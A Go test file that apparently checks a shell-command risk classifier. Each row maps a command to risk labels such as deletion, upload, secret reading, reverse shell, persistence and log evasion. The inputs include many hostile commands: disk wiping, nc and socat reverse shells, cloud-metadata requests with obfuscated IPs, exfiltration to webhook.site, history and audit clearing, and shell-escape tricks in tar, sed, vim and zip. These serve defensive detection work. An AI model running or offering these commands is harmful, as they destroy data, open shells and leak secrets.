package catalog

import "testing"

func TestFilesAreReadWrittenAndRemoved(t *testing.T) {
	rows(t, `
rm -rf build ⇒ fs.delete build +recursive+force
rm -r -f build ⇒ fs.delete build +recursive+force
rm --recursive --force build ⇒ fs.delete build +recursive+force
rm -i a ⇒ fs.delete a +interactive
rm -d empty ⇒ fs.delete empty +empty-dir
rm $X / ⇒ fs.delete +recursive+unknown-options+unknown-path; fs.delete / +recursive+unknown-options
rm -rf $X ⇒ fs.delete +recursive+force+unknown-path
rm -rf --no-preserve-root / ⇒ fs.delete / +recursive+force+root
rm -- -f ⇒ fs.delete -f
rmdir a ⇒ fs.delete a +empty-dir
shred -u a ⇒ fs.delete a +shred+force
shred /dev/sda ⇒ sys.disk /dev/sda +raw; fs.delete /dev/sda +shred+force
cp a b ⇒ fs.read a +copy; fs.write b +copy+truncate
cp a b c/ ⇒ fs.read a +copy; fs.read b +copy; fs.write c/a +copy+truncate; fs.write c/b +copy+truncate
cp -r a b ⇒ fs.read a +copy+recursive; fs.write b +copy+truncate
cp -t d a b ⇒ fs.read a +copy; fs.read b +copy; fs.write d/a +copy+truncate; fs.write d/b +copy+truncate
cp -n a b ⇒ fs.read a +copy; fs.write b +copy
cp -s a b ⇒ fs.link b; fs.read a +copy; fs.write b +copy+truncate
mv a b ⇒ fs.delete a +move; fs.write b +move+truncate
mv -t d a ⇒ fs.delete a +move; fs.write d/a +move+truncate
ln -s a b ⇒ fs.link b +symbolic; fs.read a +link+symbolic
ln -s ../k d/l ⇒ fs.link d/l +symbolic; fs.read d/../k +link+symbolic
ln a b ⇒ fs.link b +hard; fs.read a +link+hard
install -m 4755 a /usr/local/bin/a ⇒ fs.read a +copy; fs.write /usr/local/bin/a +copy+truncate; fs.chmod /usr/local/bin/a +setuid+exec+open+group-open
install -d a ⇒ fs.write a +mkdir
tee -a a ⇒ fs.write a +append
tee a b ⇒ fs.write a +truncate; fs.write b +truncate
touch a ⇒ fs.write a +touch
touch -r a b ⇒ fs.write b +touch+backdate
mkdir -p a/b ⇒ fs.write a/b +mkdir
mknod a b 8 0 ⇒ fs.write a +node; sys.disk a +node
truncate -s 0 a ⇒ fs.write a +truncate
fallocate -l 50G a ⇒ fs.write a +truncate; sys.exhaust +disk
fallocate -l 1M a ⇒ fs.write a +truncate
dd if=a of=b ⇒ fs.read a; fs.write b +truncate+dd
dd if=/dev/zero of=/dev/sda ⇒ fs.read /dev/zero; sys.disk /dev/sda +raw; fs.write /dev/sda +truncate+dd; sys.exhaust /dev/sda +disk
dd if=/dev/zero of=a bs=1M count=10 ⇒ fs.read /dev/zero; fs.write a +truncate+dd
dd if=/dev/zero of=a ⇒ fs.read /dev/zero; fs.write a +truncate+dd; sys.exhaust a +disk
chmod +x a ⇒ fs.chmod a +exec
chmod -x a ⇒ fs.chmod a +harden
chmod 777 a ⇒ fs.chmod a +world+exec+open+group-open
chmod -R 777 . ⇒ fs.chmod . +world+exec+open+group-open+recursive
chmod u+s a ⇒ fs.chmod a +setuid
chmod 4755 a ⇒ fs.chmod a +setuid+exec+open+group-open
chmod 600 a ⇒ fs.chmod a +harden
chmod o+w a ⇒ fs.chmod a +world
chmod 000 a ⇒ fs.chmod a +strip
chown -R root a ⇒ fs.chmod a +owner+recursive+owner-root
chown bob: a ⇒ fs.chmod a +owner
chattr -i a ⇒ fs.chmod a +attribute+mutable
chattr +i a ⇒ fs.chmod a +attribute+immutable
setfacl -m o::rwx a ⇒ fs.chmod a +acl+open+world
xattr -d com.apple.quarantine a ⇒ fs.chmod a +attribute+quarantine
inotifywait -mr ~/.ssh ⇒ fs.list ~/.ssh +watch+recursive
cd src ⇒ nothing
pushd src ⇒ nothing`)
}

func TestTextToolsReadFilesAndSomeRunPrograms(t *testing.T) {
	rows(t, `
cat a b ⇒ fs.read a; fs.read b
cat - ⇒ nothing
head -n 5 a ⇒ fs.read a
tail -f a ⇒ fs.read a
less '+!id' a ⇒ exec +escape; fs.read a; →shell id
grep -rn secret src ⇒ fs.read src +recursive+pattern
grep foo ⇒ nothing
grep -e a -f pats b ⇒ fs.read pats; fs.read b
rg -n foo src ⇒ fs.read src +recursive
rg --pre ./x foo ⇒ exec +escape; →shell ./x
sed 's/a/b/' a ⇒ fs.read a
sed -i 's/a/b/' a ⇒ fs.write a +inplace
sed -i.bak -e 's/a/b/' a ⇒ fs.write a +inplace
sed -n '/x/w out' a ⇒ fs.write out +truncate; fs.read a
sed '1e id' a ⇒ exec +escape; fs.read a; →shell id
sed 's/x/id/e' a ⇒ unresolved +eval; fs.read a; →shell id
sed '1i export A=b; echo c' a ⇒ fs.read a
awk '{print $1}' a ⇒ fs.read a; →code awk {print $1}
awk -F: '{print $1}' a b ⇒ fs.read a; fs.read b; →code awk {print $1}
awk -f p.awk a ⇒ fs.read a; →script awk p.awk
jq .a a ⇒ fs.read a
jq . a b ⇒ fs.read a; fs.read b
sort -o out a ⇒ fs.read a; fs.write out +truncate
sort --compress-program=./x a ⇒ fs.read a; exec +escape; →shell ./x
uniq a b ⇒ fs.read a; fs.write b +truncate
xxd a ⇒ fs.read a
xxd -r -p a ⇒ fs.read a
base64 a ⇒ fs.read a
split --filter='sh -c id' a ⇒ fs.read a; →shell sh -c id
patch -p1 ⇒ nothing
diff a b ⇒ fs.read a; fs.read b
find . -name '*.go' ⇒ fs.list . +recursive
find . -delete ⇒ fs.delete . +recursive+find
find . -name '*.o' -delete ⇒ fs.delete . +recursive+find+matching
find . -exec rm -rf {} + ⇒ →argv rm -rf .
find / -perm -4000 ⇒ recon +privilege; fs.list / +recursive
find ~ -name id_rsa ⇒ recon +secret; fs.list ~ +recursive
find a -fprint out ⇒ fs.write out +truncate; fs.list a +recursive
fd -x rm -rf ⇒ →argv rm -rf`)
}

func TestShellsAndBuiltins(t *testing.T) {
	rows(t, `
bash -c 'id' ⇒ →shell id
bash -lc id ⇒ →shell id
bash -x a.sh b ⇒ →script shell a.shb
sh a.sh ⇒ →script shell a.sh
bash -n a.sh ⇒ nothing
bash ⇒ nothing
bash -s ⇒ nothing
zsh -c id ⇒ →shell id
eval id ⇒ →shell id
source a.sh ⇒ →script shell a.sh
. ./a.sh ⇒ →script shell ./a.sh
exec ls ⇒ →argv ls
command -v ls ⇒ nothing
command ls ⇒ →argv ls
builtin cd a ⇒ →argv cd a
trap 'rm a' EXIT ⇒ →shell rm a
trap - EXIT ⇒ nothing
trap '' INT ⇒ bypass +signal
export A=b ⇒ nothing
export LD_PRELOAD=/tmp/x.so ⇒ exec.tampered +loader
export PATH=/tmp/x:$PATH ⇒ exec.tampered +path
export PATH=./node_modules/.bin:$PATH ⇒ nothing
alias ls='rm -rf a' ⇒ exec.tampered +define; →shell rm -rf a
alias ll='ls -la' ⇒ →shell ls -la
alias git=hub ⇒ nothing
unset HISTFILE ⇒ evade +history
history -c ⇒ evade +history
history ⇒ nothing
set +o history ⇒ evade +history
enable -f ./x.so y ⇒ exec.tampered ./x.so +plugin
hash -p /tmp/x ls ⇒ exec.tampered /tmp/x +define
mapfile -C 'eval' a ⇒ unresolved +eval
complete -C ./x y ⇒ persist +shell; →shell ./x
echo hi ⇒ nothing
printf '%s-%02d\n' a 3 ⇒ nothing
echo -e '\x41' ⇒ nothing`)
}

func TestWrappersLeadToWhatTheyRun(t *testing.T) {
	rows(t, `
sudo ls ⇒ privilege +root+everyday; →argv ls
sudo -u bob ls ⇒ privilege +user+everyday; →argv ls
sudo -i ⇒ privilege +root+shell
sudo -l ⇒ recon +privilege; privilege +list
sudo -v ⇒ privilege +validate
sudo A=b ls ⇒ privilege +root+everyday; →argv ls
sudo -- rm a ⇒ privilege +root; →argv rm a
sudo -e a ⇒ privilege +root+edit; fs.write a +edit
su ⇒ privilege +root+shell
su - bob ⇒ privilege +user+shell
su -c id ⇒ privilege +root; →shell id
doas id ⇒ privilege +root; →argv id
pkexec sh ⇒ privilege +root; →argv sh
env ⇒ secret.read +env
env A=b ls ⇒ →argv ls
env -i ls ⇒ →argv ls
env -u A ls ⇒ →argv ls
env -S 'ls -la' ⇒ →argv ls -la
env -C a ls ⇒ →shell cd 'a' && 'ls'
nohup ./a ⇒ exec +background; →argv ./a
nice -n 5 ls ⇒ →argv ls
timeout -k 1 5 ls ⇒ →argv ls
timeout 5 bash ⇒ exec +escape; →argv bash
stdbuf -oL ls ⇒ →argv ls
time ls ⇒ →argv ls
setarch x86_64 -R ls ⇒ bypass +aslr; →argv ls
flock l ls ⇒ fs.write l +lock; →argv ls
flock l -c 'ls a' ⇒ →shell ls a
watch -n1 ls a ⇒ →shell ls a
watch 'ls | wc' ⇒ →shell ls | wc
xargs rm -f ⇒ →argv rm -f
xargs -I{} rm {} ⇒ →argv rm
xargs -I{} sh -c 'rm {}' ⇒ unresolved +eval; →argv sh -c rm
parallel rm ::: a b ⇒ →shell rm a; →shell rm b
parallel ⇒ nothing
script -c id a ⇒ fs.write a +session; secret.read +session; →shell id
chroot / ls ⇒ privilege +chroot; →argv ls
nsenter -t 1 -m sh ⇒ privilege +namespace+host; exec +escape; →argv sh
unshare -r id ⇒ privilege +namespace+root; →argv id
busybox rm a ⇒ →argv rm a
strace -o log ls ⇒ fs.write log +truncate; →argv ls
strace -p 1 ⇒ proc.trace +attach
gdb -batch -ex 'shell id' ⇒ →shell id
gdb -p 1 ⇒ proc.trace +attach
ltrace ls ⇒ →argv ls
expect -c 'spawn id' ⇒ →shell id
at now ⇒ persist +at
systemd-run --user id ⇒ sys.service +start+transient+user; →argv id`)
}

func TestNetworkClients(t *testing.T) {
	rows(t, `
curl https://a.example/b ⇒ net.connect a.example GET
curl -o f https://a.example/b ⇒ net.connect a.example GET +download; fs.write f +truncate+download
curl -O https://a.example/b.txt ⇒ net.connect a.example GET +download; fs.write b.txt +truncate+download
curl -d @f https://a.example ⇒ net.connect a.example POST; fs.read f +upload; net.upload f a.example POST +file
curl -d 'a=b' https://a.example ⇒ net.connect a.example POST; net.upload a.example POST +data
curl -F 'f=@a;type=x' https://a.example ⇒ net.connect a.example POST; fs.read a +upload; net.upload a a.example POST +file
curl -T f https://a.example ⇒ net.connect a.example PUT; fs.read f +upload; net.upload f a.example PUT +file
curl -k https://a.example ⇒ net.connect a.example GET +insecure
curl -x http://p:1 https://a.example ⇒ net.connect a.example GET +proxy
curl -X DELETE https://api.github.com/repos/a/b ⇒ net.connect api.github.com DELETE; cloud.destroy api.github.com DELETE +rest
curl -X DELETE http://localhost:9200/i ⇒ net.connect localhost DELETE +local; db.destroy localhost DELETE +rest
curl -X DELETE http://localhost:9200/i/_doc/1 ⇒ net.connect localhost DELETE +local; db.destroy localhost DELETE +rest+minor
curl -X DELETE http://localhost:3000/i ⇒ net.connect localhost DELETE +local
curl -X DELETE https://1.2.3.4:6443/api/v1/namespaces/x ⇒ net.connect 1.2.3.4 DELETE +ip; k8s.delete 1.2.3.4 DELETE +rest
curl http://169.254.169.254/x ⇒ cloud.secret 169.254.169.254 +metadata; net.connect 169.254.169.254 GET +private
curl http://2852039166/x ⇒ cloud.secret 169.254.169.254 +metadata; net.connect 169.254.169.254 GET +private
curl http://0xa9.254.43518/x ⇒ cloud.secret 169.254.169.254 +metadata; net.connect 169.254.169.254 GET +private
curl 'http://good.example@169.254.169.254/x' ⇒ cloud.secret 169.254.169.254 +metadata; net.connect 169.254.169.254 GET +private
curl http://[fd00:ec2::254]/x ⇒ cloud.secret fd00:ec2::254 +metadata; net.connect fd00:ec2::254 GET +private
curl --unix-socket /var/run/docker.sock http://x/containers/json ⇒ net.connect x GET; container.other +rest+docker-socket
curl -K c ⇒ fs.read c; unresolved +script
curl file:///etc/hosts ⇒ fs.read /etc/hosts +url
curl -V ⇒ nothing
curl --data-urlencode 'q=a b' https://a.example ⇒ net.connect a.example POST; net.upload a.example POST +data
curl -d 'k=ghp_0123456789abcdefghij' https://a.example ⇒ net.connect a.example POST; net.upload a.example POST +data+secret
curl -d @f https://webhook.site/x ⇒ net.connect webhook.site POST; fs.read f +upload; net.upload f webhook.site POST +paste+file
wget https://a.example/b ⇒ net.connect a.example GET +download; fs.write b +download
wget -qO- https://a.example/b ⇒ net.connect a.example GET
wget --post-file=f https://a.example ⇒ net.connect a.example POST +download; fs.read f +upload; net.upload f a.example POST +file; fs.write a.example +download
wget -O f https://a.example/b ⇒ net.connect a.example GET +download; fs.write f +truncate+download
http DELETE a.example/b ⇒ net.connect a.example DELETE; cloud.destroy a.example DELETE +rest
http POST a.example f@g a=b ⇒ net.connect a.example POST; fs.read g +upload; net.upload g a.example POST +file; net.upload a.example POST +data
ssh host ⇒ net.connect host +interactive
ssh -V ⇒ nothing
ssh -R 1:a:2 host ⇒ net.tunnel host +reverse; net.connect host +interactive
ssh -D 1 host ⇒ net.tunnel host +dynamic; net.connect host +interactive
ssh -o ProxyCommand='sh -c id' host ⇒ net.connect host +interactive; →shell sh -c id
ssh host rm -rf a ⇒ net.connect host; →shell rm -rf a
ssh -i k host ls ⇒ net.connect host; fs.read k +identity; →shell ls
scp a host:b ⇒ fs.read a +upload; net.upload a host +file
scp host:a b ⇒ net.connect host +download; fs.write b +copy
rsync -a a/ b/ ⇒ fs.write b/ +recursive+copy; fs.read a/ +recursive+copy
rsync -a --delete a/ b/ ⇒ fs.delete b/ +sync-delete+recursive
rsync -n --delete a/ b/ ⇒ nothing
rsync -a a host:b ⇒ fs.read a +recursive+upload; net.upload a host +recursive+file
rsync -e 'sh -c id' a host:b ⇒ exec +escape; fs.read a +upload; net.upload a host +file; →shell sh -c id
sftp host ⇒ net.connect host
nc host 80 ⇒ net.connect host +raw
nc -e /bin/sh host 80 ⇒ net.tunnel host +reverse+shell; net.connect host +raw; exec +escape; →shell /bin/sh
nc -l 80 ⇒ net.listen +public
nc -z host 80 ⇒ net.scan host +host+local
nc -z host 1-1000 ⇒ net.scan host +host
socat TCP:host:1 EXEC:sh ⇒ net.connect host +raw; net.tunnel host +reverse+shell; exec +escape; →shell sh
socat TCP-LISTEN:1 EXEC:sh ⇒ net.listen +public; net.tunnel listen +reverse+shell; exec +escape; →shell sh
telnet host 1 ⇒ net.connect host +raw
dig a.example ⇒ net.connect a.example +dns
dig axfr @ns a.example ⇒ net.connect ns +dns+resolver; net.connect a.example AXFR +dns; net.scan +name
dig TXT a.example ⇒ net.connect a.example TXT +dns+txt
ping -c1 a.example ⇒ net.connect a.example +ping
nslookup aaaaaaaaaabbbbbbbbbbccccccccccdddd.a.example ⇒ net.connect aaaaaaaaaabbbbbbbbbbccccccccccdddd.a.example +dns+data
ngrok http 80 ⇒ net.tunnel +public
ngrok version ⇒ nothing
tcpdump -i any ⇒ net.scan +sniff
tcpdump -r f ⇒ fs.read f
nmap host ⇒ net.scan +host
nmap -p 80 localhost ⇒ net.scan +host+local
nmap --script /tmp/x.nse host ⇒ net.scan +host; exec.tampered /tmp/x.nse +plugin; net.scan +exploit
hydra host ⇒ net.scan +login`)
}

func TestTheMachine(t *testing.T) {
	rows(t, `
systemctl status a ⇒ nothing
systemctl stop a ⇒ sys.service +stop
systemctl stop auditd ⇒ sys.service +stop+security
systemctl enable a ⇒ sys.service +enable; persist +service
systemctl --user status a ⇒ nothing
systemctl poweroff ⇒ sys.power
service a restart ⇒ sys.service +restart
shutdown -h now ⇒ sys.power
shutdown -c ⇒ nothing
reboot ⇒ sys.power
init 0 ⇒ sys.power
crontab -l ⇒ nothing
crontab -r ⇒ persist +cron+remove
crontab f ⇒ persist +cron; fs.read f
mount ⇒ nothing
mount a b ⇒ sys.disk b +mount
mount -o bind a b ⇒ sys.disk b +mount+bind; fs.read a +mount
umount a ⇒ sys.disk a +umount
mkfs.ext4 /dev/sdb ⇒ sys.disk /dev/sdb +format
mkfs.ext4 disk.img ⇒ sys.disk disk.img +format+image
wipefs -a /dev/sdb ⇒ sys.disk +format
wipefs /dev/sdb ⇒ nothing
fdisk -l ⇒ nothing
parted /dev/sda print ⇒ nothing
parted /dev/sda mklabel gpt ⇒ sys.disk /dev/sda +partition
sysctl -a ⇒ nothing
sysctl a.b=1 ⇒ sys.kernel +parameter
modprobe x ⇒ sys.kernel +module
lsmod ⇒ nothing
iptables -L ⇒ nothing
iptables -F ⇒ sys.net +firewall+flush
iptables -A INPUT -j DROP ⇒ sys.net +firewall
ufw status ⇒ nothing
ufw disable ⇒ sys.net +firewall+flush
ip addr ⇒ nothing
ip route add default via 1.1.1.1 ⇒ sys.net +route
ip netns exec a id ⇒ privilege +namespace; →argv id
useradd a ⇒ sys.user +add
passwd ⇒ sys.user +password
userdel a ⇒ sys.user +delete
visudo -c ⇒ nothing
kill 1 ⇒ proc.kill +init
kill -9 -1 ⇒ proc.kill +all
kill -0 5 ⇒ proc.kill +zero
kill %1 ⇒ proc.kill +job
kill -STOP 5 ⇒ proc.kill +freeze
pkill a ⇒ proc.kill +name
pkill -u root ⇒ proc.kill +name+all
tmux ls ⇒ nothing
tmux new -d 'id' ⇒ exec +background; →shell id
tmux send-keys -t a id Enter ⇒ →shell id
screen -dmS a id ⇒ exec +background; →argv id
ps aux ⇒ nothing
ps auxe ⇒ secret.read +env+process
date ⇒ nothing
date -s x ⇒ sys.config +time
journalctl -u a ⇒ nothing
journalctl --vacuum-time=1s ⇒ evade +log
auditctl -D ⇒ evade +audit
setenforce 0 ⇒ sys.config +mac+off
ldconfig ⇒ sys.config +loader
hostname ⇒ nothing
hostname a ⇒ sys.config +hostname
timedatectl status ⇒ nothing
timedatectl set-time x ⇒ sys.config +time`)
}

func TestSecrets(t *testing.T) {
	rows(t, `
printenv ⇒ secret.read +env
printenv HOME ⇒ nothing
printenv AWS_SECRET_ACCESS_KEY ⇒ secret.read +env+variable
gpg --list-keys ⇒ nothing
gpg --export-secret-keys ⇒ secret.key +export
gpg -d f ⇒ fs.read f; secret.read +decrypt
security find-generic-password -w x ⇒ secret.read
pass ls ⇒ nothing
pass a/b ⇒ secret.read
op read op://a/b ⇒ secret.read
op item list ⇒ nothing
bw get password x ⇒ secret.read
ssh-keygen -t ed25519 -f k ⇒ fs.write k +key; secret.key +make
ssh-keygen -lf k.pub ⇒ nothing
ssh-add -l ⇒ nothing
openssl rand -hex 4 ⇒ nothing
openssl rsa -in k ⇒ fs.read k; secret.read +key
openssl s_client -connect a.example:443 ⇒ net.connect a.example +tls
openssl enc -d -base64 ⇒ nothing
vault kv get a ⇒ cloud.secret
vault status ⇒ cloud.read
keyctl read 1 ⇒ secret.read +key
getent passwd ⇒ recon +user
getent passwd bob ⇒ nothing
getent shadow ⇒ secret.read`)
}

func TestArchives(t *testing.T) {
	rows(t, `
tar xzf a.tgz ⇒ fs.read a.tgz; fs.write . +extract
tar czf a.tgz b ⇒ fs.write a.tgz +truncate+archive; fs.read b +archive+recursive
tar -C /x -xf a ⇒ fs.read a; fs.write /x +extract
tar xf a --to-command='sh -c id' ⇒ exec +escape; fs.read a; fs.write . +extract; →shell sh -c id
tar cf a b --checkpoint-action=exec=id ⇒ exec +escape; fs.write a +truncate+archive; fs.read b +archive+recursive; →shell id
tar -Pxf a ⇒ fs.read a; fs.write . +extract+absolute
tar cz b ⇒ fs.read b +archive+recursive
tar tf a ⇒ fs.read a
zip a.zip b ⇒ fs.write a.zip +archive; fs.read b +archive
zip a b -T -TT id ⇒ exec +escape; fs.write a +archive; fs.read b +archive; →shell id
unzip a -d b ⇒ fs.read a; fs.write b +extract
unzip -l a ⇒ fs.read a
7z x a -ob ⇒ fs.read a; fs.write b +extract
gzip a ⇒ fs.read a; fs.delete a +move; fs.write a +compress
gzip -c a ⇒ fs.read a`)
}

func TestEditorsCompilersForges(t *testing.T) {
	rows(t, `
vim a ⇒ fs.write a +edit
vim -c ':!id' a ⇒ exec +escape; fs.write a +edit; →shell id
vim +10 a ⇒ fs.write a +edit
view a ⇒ fs.read a
man ls ⇒ nothing
man -P 'sh -c id' ls ⇒ exec +escape; →shell sh -c id
gcc -o a a.c ⇒ fs.write a +truncate+build; fs.read a.c +build
gcc -fplugin=/tmp/x.so a.c ⇒ exec.tampered /tmp/x.so +plugin; fs.read a.c +build
ffmpeg -i a b ⇒ fs.read a; fs.write b +truncate
ffmpeg -f x11grab -i :0 b ⇒ secret.read +screen; fs.write b +truncate
gh pr list ⇒ nothing
gh pr merge 1 --admin ⇒ bypass +review; cloud.write +merge+admin
gh api -X DELETE repos/a/b ⇒ cloud.destroy api.github.com DELETE +rest
gh api repos/a/b ⇒ nothing
gh auth token ⇒ secret.read
gh gist create f ⇒ fs.read f +upload; net.upload f +file+gist
gh repo delete a ⇒ cloud.destroy
gh release delete v1 ⇒ cloud.destroy
patchelf --print-needed a ⇒ nothing
patchelf --set-rpath /tmp/x /usr/bin/a ⇒ exec.tampered /usr/bin/a +loader
del /s /q C:\x ⇒ fs.delete /C:\x +recursive+force
reg add HKLM\x ⇒ sys.config +registry
schtasks /create /tn x ⇒ persist +cron
certutil -urlcache -f http://a.example/x x ⇒ net.connect a.example +download+lolbin; exec +escape`)
}
